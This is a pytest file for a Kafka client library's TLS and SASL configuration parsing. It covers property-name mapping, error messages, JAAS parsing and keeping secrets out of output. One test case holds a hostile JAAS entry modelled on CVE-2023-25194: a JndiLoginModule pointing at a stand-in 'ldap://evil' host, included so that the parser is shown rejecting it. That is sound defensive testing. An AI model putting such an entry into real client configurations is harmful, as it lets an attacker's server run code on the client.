"""Properties for TLS and SASL: names of librdkafka and of Java, wrong combinations, hidden secrets."""

from __future__ import annotations

from typing import Any

import pytest

from headrace.clients.config import ClientConfig, ProducerConfig, parse_config
from headrace.clients.security import parse_jaas
from headrace.errors import ConfigError

SECRET = "hush-hush"
LOGIN = {"sasl.mechanism": "PLAIN", "sasl.username": "u", "sasl.password": SECRET}
PLAIN_MODULE = "org.apache.kafka.common.security.plain.PlainLoginModule"
SCRAM_MODULE = "org.apache.kafka.common.security.scram.ScramLoginModule"


def token() -> str:
    return SECRET


def parsed(properties: dict[str, Any]) -> ClientConfig:
    return parse_config(ClientConfig, properties)


def test_connections_are_plain_and_certificates_are_checked_by_default() -> None:
    config = parsed({})
    assert (config.security_protocol, config.encrypted, config.authenticates) == (
        "PLAINTEXT", False, False,
    )  # fmt: skip
    assert config.enable_ssl_certificate_verification
    assert config.ssl_endpoint_identification_algorithm == "https"


@pytest.mark.parametrize(
    ("name", "encrypted", "authenticates"),
    [("ssl", True, False), ("SASL_PLAINTEXT", False, True), ("sasl_ssl", True, True)],
)
def test_a_security_protocol_determines_encryption_and_authentication(
    name: str, *, encrypted: bool, authenticates: bool
) -> None:
    config = parsed({"security.protocol": name, **(LOGIN if authenticates else {})})
    assert (config.encrypted, config.authenticates) == (encrypted, authenticates)


@pytest.mark.parametrize(
    ("properties", "fields"),
    [
        ({"ssl.truststore.location": "/ca"}, {"ssl_ca_location": "/ca"}),
        ({"ssl.truststore.certificates": "P", "ssl.truststore.type": "pem"}, {"ssl_ca_pem": "P"}),
        (
            {"ssl.keystore.key": "K", "ssl.keystore.certificate.chain": "C"},
            {"ssl_key_pem": "K", "ssl_certificate_pem": "C"},
        ),
        (
            {"ssl.keystore.location": "/both", "ssl.keystore.type": "PEM"},
            {"ssl_key_location": "/both", "ssl_certificate_location": "/both"},
        ),
        (
            {"ssl.endpoint.identification.algorithm": ""},
            {"ssl_endpoint_identification_algorithm": "none"},
        ),
        (
            {"enable.ssl.certificate.verification": "false"},
            {"enable_ssl_certificate_verification": False},
        ),
    ],
)
def test_names_of_java_and_of_librdkafka_for_tls(
    properties: dict[str, str], fields: dict[str, Any]
) -> None:
    config = parsed({"security.protocol": "SSL", **properties})
    assert {name: getattr(config, name) for name in fields} == fields


def test_librdkafka_says_mechanisms() -> None:
    properties = {"security.protocol": "sasl_ssl", "sasl.mechanisms": "scram-sha-512"}
    config = parsed({**properties, "sasl.username": "u", "sasl.password": "p"})
    assert config.sasl_mechanism == "SCRAM-SHA-512"


@pytest.mark.parametrize(
    ("properties", "text"),
    [
        ({"security.protocol": "SASL_SSL"}, "needs sasl.mechanism: one of PLAIN"),
        ({"sasl.mechanism": "GSSAPI"}, "is one of PLAIN, SCRAM-SHA-256, .*not 'GSSAPI'"),
        ({"sasl.username": "u"}, "sasl.username is given, but .*PLAINTEXT does not log in"),
        ({"sasl_oauthbearer_token": token}, "a function for tokens is given, but"),
        (
            {"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN", "sasl.password": SECRET},
            "needs sasl.username",
        ),
        (
            {"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN", "sasl.username": "u"},
            "needs sasl.password",
        ),
        (
            {"security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER"},
            "one function that gets a token: oauth_cb or sasl_oauthbearer_token$",
        ),
        (
            {
                "security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER",
                "oauth_cb": print, "sasl_oauthbearer_token": token,
            },
            "not both",
        ),
        (
            {**LOGIN, "security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER"},
            "knows neither",
        ),
        ({**LOGIN, "security.protocol": "SASL_SSL", "oauth_cb": print}, "is for OAUTHBEARER"),
        ({"sasl_oauthbearer_token": SECRET}, "wants a function, not str"),
        ({"ssl.ca.location": "/ca"}, "ssl.ca.location is given, but .*has no TLS"),
        ({"security.protocol": "SSL", "ssl.ca.location": "/ca", "ssl.ca.pem": "P"}, "two ways"),
        ({"security.protocol": "SSL", "ssl.certificate.location": "/c"}, "has no key"),
        ({"security.protocol": "SSL", "ssl.key.pem": SECRET}, "has no certificate"),
        ({"security.protocol": "SSL", "ssl.key.password": SECRET}, "but no key"),
        # A variable of the environment that is not set, and a file read as bytes, are no passwords.
        ({**LOGIN, "security.protocol": "SASL_SSL", "sasl.password": None}, "needs sasl.password"),
        (
            {**LOGIN, "security.protocol": "SASL_SSL", "sasl.password": SECRET.encode()},
            "'sasl.password' wants text, not bytes",
        ),
        ({"ssl.truststore.type": "JKS"}, "keytool -importkeystore"),
        ({"ssl.keystore.type": "PKCS12"}, "openssl pkcs12"),
        ({"security.protocl": "SSL"}, "did you mean 'security.protocol'"),
    ],
)  # fmt: skip
def test_a_wrong_security_setting_has_its_own_error(properties: dict[str, Any], text: str) -> None:
    with pytest.raises(ConfigError, match=text) as caught:
        parsed(properties)
    assert SECRET not in str(caught.value)


def test_a_jaas_entry_logs_in() -> None:
    config = parsed(
        {
            "security.protocol": "SASL_SSL",
            "sasl.jaas.config": f'{PLAIN_MODULE} required username="u" password="a\\"b=c; d";',
        }
    )
    assert (config.sasl_mechanism, config.sasl_username, config.sasl_password) == (
        "PLAIN", "u", 'a"b=c; d',
    )  # fmt: skip


def test_a_scram_jaas_entry_requires_the_mechanism_setting() -> None:
    entry = f"{SCRAM_MODULE} required\n username='u'\n password='p' ;"
    properties = {"security.protocol": "SASL_SSL", "sasl.jaas.config": entry}
    with pytest.raises(ConfigError, match=r"needs sasl\.mechanism"):
        parsed(properties)
    with pytest.raises(ConfigError, match="which is for SCRAM-SHA-256 and SCRAM-SHA-512"):
        parsed({**properties, "sasl_mechanism": "PLAIN"})
    assert parsed({**properties, "sasl.mechanisms": "SCRAM-SHA-256"}).sasl_username == "u"


@pytest.mark.parametrize(
    ("entry", "text"),
    [
        # CVE-2023-25194: a module that looks up an address of the attacker's, and runs what it finds there.
        (
            'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";',
            "only PlainLoginModule and ScramLoginModule",
        ),
        (f"{PLAIN_MODULE}Evil required;", "only PlainLoginModule"),
        (
            "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required;",
            "give oauth_cb",
        ),
        (f'{PLAIN_MODULE} required username="u";', "lacks password"),
        (f'{PLAIN_MODULE} required username="u" password=!{SECRET};', 'options are name="value"'),
        (f'{PLAIN_MODULE} required username="u" password="{SECRET}', 'options are name="value"'),
        (
            f'{PLAIN_MODULE} required username="u" password="{SECRET}"; {SCRAM_MODULE} required;',
            'options are name="value"',
        ),
        (f'{PLAIN_MODULE} required username="u" username="v" password="p";', "twice"),
        (
            f'{SCRAM_MODULE} required username="u" password="{SECRET}" tokenauth="true";',
            "delegation token",
        ),
        (f'{PLAIN_MODULE} username="u" password="{SECRET}";', "not of the form|lacks the word"),
        ("", "not of the form"),
    ],
)
def test_a_jaas_entry_is_data_and_nothing_else(entry: str, text: str) -> None:
    with pytest.raises(ConfigError, match=text) as caught:
        parse_jaas(entry)
    assert SECRET not in str(caught.value)


@pytest.mark.parametrize(
    "entry",
    [
        f'{PLAIN_MODULE} required username="u" password="p" user_u="p" user_alice="{SECRET}";',
        f'{PLAIN_MODULE} required username=u password=p serviceName="k" useKeyTab=true;',
        f'{PLAIN_MODULE} required\n  username="u"\n  password="p"\n  user_o.hara="x" ;',
    ],
)
def test_further_options_of_a_jaas_entry_do_not_concern_a_client(entry: str) -> None:
    assert parse_jaas(entry) == (PLAIN_MODULE, "u", "p")


def test_representations_contain_no_secrets() -> None:
    config = parse_config(
        ProducerConfig,
        {
            "security.protocol": "SASL_SSL", **LOGIN, "ssl.key.pem": SECRET,
            "ssl.certificate.pem": "C", "ssl.key.password": SECRET,
            "sasl.oauthbearer.config": SECRET,
        },
    )  # fmt: skip
    assert SECRET not in repr(config)
    assert "sasl_username='u'" in repr(config)
